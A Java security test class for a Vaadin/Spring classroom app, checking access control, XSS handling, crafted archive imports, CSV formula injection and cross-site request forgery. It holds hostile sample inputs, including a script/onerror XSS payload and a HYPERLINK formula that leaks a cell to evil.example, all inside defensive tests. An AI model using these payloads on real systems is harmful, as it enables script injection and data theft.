package org.ssmclassroom.reliability;

import static com.github.mvysny.kaributesting.v10.LocatorJ._click;
import static com.github.mvysny.kaributesting.v10.LocatorJ._find;
import static com.github.mvysny.kaributesting.v10.LocatorJ._get;
import static com.github.mvysny.kaributesting.v10.LocatorJ._setValue;
import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import com.vaadin.flow.component.Component;
import com.vaadin.flow.component.UI;
import com.vaadin.flow.component.button.Button;
import com.vaadin.flow.component.html.Paragraph;
import com.vaadin.flow.component.html.Span;
import com.vaadin.flow.component.textfield.IntegerField;
import com.vaadin.flow.component.textfield.TextField;
import com.vaadin.flow.router.Route;
import com.vaadin.flow.server.auth.AnonymousAllowed;
import io.github.classgraph.ClassGraph;
import io.github.classgraph.ScanResult;
import jakarta.annotation.security.RolesAllowed;
import java.lang.reflect.InvocationTargetException;
import java.lang.reflect.Method;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.aop.support.AopUtils;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.security.access.prepost.PreAuthorize;
import org.ssmclassroom.base.ActionRefused;
import org.ssmclassroom.base.BoardId;
import org.ssmclassroom.base.BoardItemId;
import org.ssmclassroom.base.Roles;
import org.ssmclassroom.base.WorkshopId;
import org.ssmclassroom.board.BoardEdit;
import org.ssmclassroom.board.BoardService;
import org.ssmclassroom.scenario.ScenarioLibrary;
import org.ssmclassroom.security.DeviceToken;
import org.ssmclassroom.security.ui.LoginView;
import org.ssmclassroom.testing.KaribuTest;
import org.ssmclassroom.workshop.Trainees;
import org.ssmclassroom.workshop.WorkshopService;
import org.ssmclassroom.workshop.WorkshopSteering;
import org.ssmclassroom.workshop.Workshops;
import tools.jackson.databind.node.ObjectNode;

/**
 * What a hostile or curious trainee tries: instructor screens and actions, other tables, hostile text; and what a
 * page on another site tries with the instructor's cookies, in raw HTTP against the running server (behind a proxy,
 * and with real download and upload links: {@link CookiesAndOriginsTest}).
 */
class AbuseTest extends KaribuTest {

    private static final Set<String> TRAINEE_ROUTES =
            Set.of("", "login", "join/:code?", "table", "board", "practice", "plan", "negotiation");

    @Autowired
    WorkshopService workshops;

    @Autowired
    WorkshopSteering steering;

    @Autowired
    Trainees trainees;

    @Autowired
    BoardService boards;

    @Autowired
    ScenarioLibrary library;

    @Autowired
    org.ssmclassroom.scoring.ScoringService scoring;

    @Autowired
    org.ssmclassroom.scoring.LeaderboardService leaderboards;

    @Autowired
    org.ssmclassroom.scoring.CoverageService keyPoints;

    @Autowired
    org.ssmclassroom.security.InstructorAccounts accounts;

    @Autowired
    org.ssmclassroom.record.WorkshopRecords records;

    @Autowired
    org.ssmclassroom.negotiation.NegotiationService negotiations;

    @Autowired
    org.ssmclassroom.record.ArchiveImport archives;

    @org.springframework.boot.test.web.server.LocalServerPort
    int port;

    private final DeviceToken mei = DeviceToken.random();
    private final DeviceToken intruder = DeviceToken.random();
    private WorkshopId workshop;
    private BoardId meisBoard;

    @BeforeEach
    void aClassWithTwoTables() {
        asInstructor(() -> {
            workshop = Workshops.homebody(workshops, 2);
            Workshops.join(workshops, trainees, workshop, mei, "Mei", 0);
            Workshops.join(workshops, trainees, workshop, intruder, "Intruder", 1);
            steering.openExercise(workshop, "ex4", Set.of());
        });
        meisBoard = boards.boardOf(mei).orElseThrow().boardId();
        holdTablet(intruder);
    }

    @Test
    void everyScreenIsEitherForTraineesOrForTheInstructorOnly() {
        try (ScanResult scan = new ClassGraph()
                .enableAnnotationInfo()
                .ignoreClassVisibility()
                .acceptPackages("org.ssmclassroom")
                .scan()) {
            for (Class<?> view : scan.getClassesWithAnnotation(Route.class).loadClasses()) {
                if (view.getProtectionDomain()
                        .getCodeSource()
                        .getLocation()
                        .getPath()
                        .contains("test-classes")) {
                    continue; // the benchmarks' own pages
                }
                String path = view.getAnnotation(Route.class).value();
                if (TRAINEE_ROUTES.contains(path)) {
                    assertThat(view).hasAnnotation(AnonymousAllowed.class);
                } else {
                    assertThat(view.getAnnotation(RolesAllowed.class))
                            .as(path + " is for the instructor only")
                            .isNotNull()
                            .extracting(RolesAllowed::value)
                            .isIn(new String[] {Roles.INSTRUCTOR}, new String[] {Roles.LEAD});
                }
            }
        }
    }

    @Test
    void aTraineeOpeningAnInstructorScreenByItsAddressIsSentToSignIn() {
        long table = workshops
                .snapshotOfTable(boards.boardOf(mei).orElseThrow().table())
                .tables()
                .getFirst()
                .id()
                .value();
        List<String> addresses = List.of(
                "workshops",
                "workshops/" + workshop.value(),
                "workshops/" + workshop.value() + "/projector",
                "workshops/" + workshop.value() + "/tables/" + table + "/board",
                "share/" + meisBoard.value(),
                "library",
                "library/homebody",
                "workshops/" + workshop.value() + "/scores",
                "workshops/" + workshop.value() + "/score/" + table + "/ex2",
                "workshops/" + workshop.value() + "/moderate/" + table + "/ex2",
                "instructors");
        for (String address : addresses) {
            UI.getCurrent().navigate(address);
            assertThat(UI.getCurrent()
                            .getInternals()
                            .getActiveRouterTargetsChain()
                            .getFirst())
                    .as(address)
                    .isInstanceOf(LoginView.class);
        }
    }

    @Test
    void everyInstructorActionIsRefusedWithoutTheInstructorsSignIn() throws Exception {
        int guarded = 0;
        for (Object service : List.of(
                workshops,
                steering,
                trainees,
                boards,
                library,
                scoring,
                leaderboards,
                keyPoints,
                accounts,
                negotiations)) {
            for (Method method : AopUtils.getTargetClass(service).getDeclaredMethods()) {
                if (method.isAnnotationPresent(PreAuthorize.class)) {
                    guarded++;
                    Object[] arguments = new Object[method.getParameterCount()];
                    for (int i = 0; i < arguments.length; i++) {
                        Class<?> type = method.getParameterTypes()[i];
                        arguments[i] = Map.<Class<?>, Object>of(boolean.class, false, long.class, 1L, int.class, 0)
                                .get(type);
                    }
                    Method callable = service.getClass().getMethod(method.getName(), method.getParameterTypes());
                    assertThatThrownBy(() -> {
                                try {
                                    callable.invoke(service, arguments);
                                } catch (InvocationTargetException e) {
                                    throw e.getCause();
                                }
                            })
                            .as(method.getName())
                            .isInstanceOf(org.springframework.security.core.AuthenticationException.class);
                }
            }
        }
        assertThat(guarded).as("instructor actions found and tried").isGreaterThan(30);
    }

    @Test
    void aTraineeCannotChangeAnotherTablesBoardByItsId() {
        BoardItemId entry = boards.addItem(mei, meisBoard, "pain-chain");
        boards.edit(mei, meisBoard, entry, "title", "CFO", 0);
        List<Runnable> attempts = List.of(
                () -> boards.edit(intruder, meisBoard, entry, "title", "hacked", 1),
                () -> boards.addItem(intruder, meisBoard, "pain-chain"),
                () -> boards.removeItem(intruder, meisBoard, entry),
                () -> boards.undoMyLastChange(intruder, meisBoard),
                () -> boards.copyEntry(intruder, meisBoard, "ex2", entry, "pain-chain"));
        for (Runnable attempt : attempts) {
            assertThatThrownBy(attempt::run).isInstanceOf(ActionRefused.class).hasMessage("notYourBoard");
        }
        var content = boards.boardOf(mei).orElseThrow().content();
        assertThat(content.itemsOf("pain-chain")).hasSize(1);
        assertThat(content.text(entry, "title")).isEqualTo("CFO");
    }

    @Test
    void hostileTextIsStoredAndShownAsPlainTextAndTooMuchIsRefusedWithAMessage() {
        String script = "<script>alert('x')</script><img src=x onerror=alert(1)>";
        BoardItemId entry = boards.addItem(mei, meisBoard, "pain-chain");
        assertThat(boards.edit(mei, meisBoard, entry, "title", script, 0)).isInstanceOf(BoardEdit.Saved.class);
        assertThat(boards.edit(mei, meisBoard, entry, "pain", "痛".repeat(20_000), 0))
                .isEqualTo(new BoardEdit.Refused("refused.tooLong", 4000));
        signInAsInstructor();
        UI.getCurrent()
                .navigate("workshops/" + workshop.value() + "/tables/"
                        + boards.boardOf(mei).orElseThrow().table().value() + "/board/ex4");
        var title = _get(com.vaadin.flow.component.textfield.TextArea.class, spec -> spec.withLabel("Title"));
        assertThat(title.getValue()).isEqualTo(script);
        assertThat(_find(Component.class))
                .noneMatch(c -> c.getElement().getTag().equals("script")
                        || c.getElement().getTag().equals("img"));
    }

    @Test
    void aSelfIntroductionOfTwentyThousandCharactersIsRefusedWithAMessageAndKept() {
        holdTablet(DeviceToken.random());
        UI.getCurrent()
                .navigate("join/"
                        + workshops
                                .snapshotOfTable(
                                        boards.boardOf(mei).orElseThrow().table())
                                .workshop()
                                .joinCode()
                                .value());
        String huge = "<b>".repeat(7_000);
        _setValue(_get(TextField.class, spec -> spec.withLabel("Your name")), huge);
        _setValue(_get(TextField.class, spec -> spec.withLabel("Your company")), "Acme");
        _setValue(_get(TextField.class, spec -> spec.withLabel("Your job title")), "Manager");
        _setValue(_get(IntegerField.class, spec -> spec.withLabel("Years in sales")), 3);
        _click(_get(Button.class, spec -> spec.withText("Join")));
        assertThat(_get(Paragraph.class, spec -> spec.withClasses("form-error")).getText())
                .startsWith("Too long: Your name");
        assertThat(_get(TextField.class, spec -> spec.withLabel("Your name")).getValue())
                .isEqualTo(huge);
        assertThat(_find(Span.class)).noneMatch(s -> s.getText().equals(huge));
    }

    /**
     * Archives as a prankster would write them: each is refused, nothing is left behind, and the instructor reads
     * where the archive went wrong — never a database statement, never "Something went wrong".
     */
    @Test
    void aCraftedArchiveIsRefusedSayingWhereNeverWithSqlOrSomethingWentWrong() {
        signInAsInstructor();
        int before = workshops.workshops().size();
        byte[] archive = records.archive(workshop);
        Map<String, java.util.function.Consumer<ObjectNode>> crafted = new java.util.LinkedHashMap<>();
        crafted.put("/tables/0/boards/0/values/0/text", a -> {
            ObjectNode board = (ObjectNode) table(a).get("boards").get(0);
            board.withArray("entries")
                    .addObject()
                    .put("id", "pain-chain/abc234")
                    .put("position", 1);
            board.withArray("values")
                    .addObject()
                    .put("item", "pain-chain/abc234")
                    .put("field", "pain")
                    .put("text", "x".repeat(5 * 1024 * 1024))
                    .put("version", 1)
                    .put("author", "Mei")
                    .put("at", "2026-11-27T10:00:00Z");
        });
        crafted.put("/tables/0/marks/0/mark/points", a -> mark(a, "complete", 999));
        crafted.put("/tables/0/marks/0/mark/points ", a -> mark(a, "complete", -50));
        crafted.put("/tables/0/marks/0", a -> mark(a, "made-up", 2));
        crafted.put("/workshop/language", a -> ((ObjectNode) a.get("workshop")).put("language", "xx"));
        crafted.put("/workshop/date", a -> ((ObjectNode) a.get("workshop")).put("date", "+999999999-12-31"));
        crafted.put(
                "/tables/0/participants/0/joinedAt",
                a -> ((ObjectNode) table(a).get("participants").get(0)).put("joinedAt", "+999999999-12-31T23:59:59Z"));
        crafted.put(
                "/tables/0/participants/1",
                a -> table(a).withArray("participants").addNull());
        crafted.put("/tables/0/participants", a -> {
            var participants = table(a).withArray("participants");
            for (int i = 0; i < 20_000; i++) {
                participants.add(((ObjectNode) participants.get(0)).deepCopy().put("name", "Bot " + i));
            }
        });
        crafted.put("/tables/0/marks/1", a -> {
            mark(a, "complete", 2);
            mark(a, "complete", 4);
        });

        crafted.forEach((place, craft) -> {
            ObjectNode tree = (ObjectNode) JSON.readTree(archive);
            craft.accept(tree);
            byte[] json = JSON.writeValueAsBytes(tree);
            assertThatThrownBy(() -> archives.importArchive(json))
                    .as(place)
                    .isInstanceOfSatisfying(
                            ActionRefused.class,
                            refused -> assertThat(org.ssmclassroom.base.ui.ErrorNotices.message(refused))
                                    .as(place)
                                    .contains(place.strip())
                                    .doesNotContain("Something went wrong", "SQL", "INSERT", "refused."));
        });
        assertThat(workshops.workshops()).hasSize(before);
    }

    @Test
    void aFormulaSmuggledInAnArchiveIsPlainTextInTheScoresCsv() {
        signInAsInstructor();
        ObjectNode tree = (ObjectNode) JSON.readTree(records.archive(workshop));
        String link = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
        table(tree).put("name", link);
        mark(tree, "complete", 2);
        ObjectNode mark = (ObjectNode) table(tree).get("marks").get(0).get("mark");
        mark.put("scorer", "@lee").put("comment", "+1+1");

        WorkshopId copy = archives.importArchive(JSON.writeValueAsBytes(tree)).id();
        String csv = new String(records.scoresCsv(copy), java.nio.charset.StandardCharsets.UTF_8);

        assertThat(csv)
                .contains("\"'" + link.replace("\"", "\"\"") + "\"", "\"'@lee\"", "\"'+1+1\"")
                .doesNotContain(",\"=", ",\"@", ",\"+", ",\"-");
    }

    private static final tools.jackson.databind.json.JsonMapper JSON =
            tools.jackson.databind.json.JsonMapper.builder().build();

    private static ObjectNode table(ObjectNode archive) {
        return (ObjectNode) archive.get("tables").get(0);
    }

    private static void mark(ObjectNode archive, String criterion, int points) {
        table(archive)
                .withArray("marks")
                .addObject()
                .put("exercise", "ex2")
                .putObject("mark")
                .put("criterion", criterion)
                .put("scorer", "lee")
                .put("points", points)
                .put("comment", "")
                .put("version", 1);
    }

    @Test
    void aSignInPostedWithoutTheFormsTokenSignsNobodyInAndTheFormItselfDoes() throws Exception {
        // Login CSRF: a page elsewhere posts the prankster's own credentials; the instructor then works, unaware,
        // in the prankster's account. Nothing but the token Spring Security put in the sign-in page tells them apart.
        HttpResponse<String> crafted = send("POST", "/login", Map.of(), credentials(""));
        assertThat(crafted.headers().allValues("Set-Cookie")).noneMatch(c -> c.startsWith("remember-me="));
        assertThat(crafted.headers().firstValue("Location")).hasValue(url("/login"));

        assertThat(signIn()).containsKey("remember-me");
    }

    @Test
    void actionsAndDataRequestedByAnotherSiteWithTheInstructorsCookiesAreRefused() throws Exception {
        Map<String, String> lead = Map.of("Cookie", cookieHeader(signIn()));
        String foreign = "https://prank.example.net";
        List<String> posts = List.of(
                "/?v-r=uidl&v-uiId=0",
                "/?v-r=heartbeat&v-uiId=0",
                "/VAADIN/dynamic/resource/0/00000000-0000-0000-0000-000000000000/upload",
                "/logout",
                "/login");
        for (String path : posts) {
            HttpResponse<String> answer = send("POST", path, with(lead, "Origin", foreign), "{}");
            assertThat(answer.statusCode())
                    .as("POST " + path + " from another site")
                    .isEqualTo(403);
            assertThat(answer.body()).contains("another site");
            assertThat(send("POST", path, with(lead, "Sec-Fetch-Site", "cross-site"), "{}")
                            .statusCode())
                    .as("POST " + path + " by a form on another site")
                    .isEqualTo(403);
            assertThat(send("POST", path, with(lead, "Origin", url("")), "{}").body())
                    .as("POST " + path + " from the app's own page")
                    .doesNotContain("another site");
        }
        for (String path : List.of(
                "/VAADIN/dynamic/resource/0/00000000-0000-0000-0000-000000000000/archive.json",
                "/VAADIN/push?v-r=push&v-uiId=0&X-Atmosphere-Transport=long-polling")) {
            assertThat(send("GET", path, with(lead, "Sec-Fetch-Site", "cross-site"), null)
                            .statusCode())
                    .as("GET " + path + " from another site")
                    .isEqualTo(403);
            assertThat(send("GET", path, with(lead, "Origin", "null"), null).statusCode())
                    .as("GET " + path + " from a sandboxed frame")
                    .isEqualTo(403);
        }
        assertThat(send("GET", "/workshops", with(lead, "Sec-Fetch-Site", "cross-site"), null)
                        .statusCode())
                .as("a link to the app from another site still opens it")
                .isEqualTo(200);
    }

    /** Signs in through the sign-in page as a browser does: its cookies, its token, its form. */
    private Map<String, String> signIn() throws Exception {
        HttpResponse<String> page = send("GET", "/login", Map.of(), null);
        Map<String, String> cookies = cookies(page, new java.util.LinkedHashMap<>());
        String form = credentials("&" + meta(page, "_csrf_parameter") + "=" + meta(page, "_csrf"));
        HttpResponse<String> signedIn =
                send("POST", "/login", Map.of("Cookie", cookieHeader(cookies), "Origin", url("")), form);
        assertThat(signedIn.headers().firstValue("Location")).hasValue(url("/"));
        return cookies(signedIn, cookies);
    }

    private String url(String path) {
        return "http://localhost:" + port + path;
    }

    private static String credentials(String more) {
        return "username=" + org.ssmclassroom.testing.AppTest.INSTRUCTOR + "&password="
                + org.ssmclassroom.testing.AppTest.PASSWORD + more.replace("+", "%2B");
    }

    private static Map<String, String> with(Map<String, String> headers, String name, String value) {
        Map<String, String> more = new java.util.LinkedHashMap<>(headers);
        more.put(name, value);
        return more;
    }

    private HttpResponse<String> send(String method, String path, Map<String, String> headers, String form)
            throws java.io.IOException, InterruptedException {
        HttpRequest.Builder request = HttpRequest.newBuilder(URI.create(url(path)))
                .method(
                        method,
                        form == null ? HttpRequest.BodyPublishers.noBody() : HttpRequest.BodyPublishers.ofString(form));
        if (form != null) {
            request.header("Content-Type", "application/x-www-form-urlencoded");
        }
        headers.forEach(request::header);
        return HttpClient.newBuilder()
                .followRedirects(HttpClient.Redirect.NEVER)
                .build()
                .send(request.build(), HttpResponse.BodyHandlers.ofString());
    }

    private static Map<String, String> cookies(HttpResponse<String> response, Map<String, String> jar) {
        for (String header : response.headers().allValues("Set-Cookie")) {
            String pair = header.split(";", 2)[0];
            jar.put(pair.substring(0, pair.indexOf('=')), pair.substring(pair.indexOf('=') + 1));
        }
        return jar;
    }

    private static String cookieHeader(Map<String, String> cookies) {
        return String.join(
                "; ",
                cookies.entrySet().stream()
                        .map(e -> e.getKey() + "=" + e.getValue())
                        .toList());
    }

    private static String meta(HttpResponse<String> page, String name) {
        java.util.regex.Matcher meta = java.util.regex.Pattern.compile(
                        "<meta name=\"" + name + "\" content=\"([^\"]*)\"")
                .matcher(page.body());
        assertThat(meta.find())
                .as("<meta name=" + name + "> in the sign-in page")
                .isTrue();
        return meta.group(1);
    }
}
